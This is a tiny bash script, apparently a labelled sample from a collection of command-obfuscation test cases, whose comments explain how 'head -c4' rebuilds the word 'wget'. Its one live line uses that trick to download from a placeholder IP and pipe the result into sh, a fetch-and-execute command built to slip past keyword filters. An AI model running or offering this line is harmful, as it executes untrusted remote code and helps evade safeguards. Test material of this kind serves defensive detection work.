#!/usr/bin/env bash
# attack-class: 16
# title: $(head -c4 <<< wgetrc)
# why: head keeps the first four bytes: wget

$(head -c4 <<< wgetrc) -qO- http://198.51.100.2/x | sh
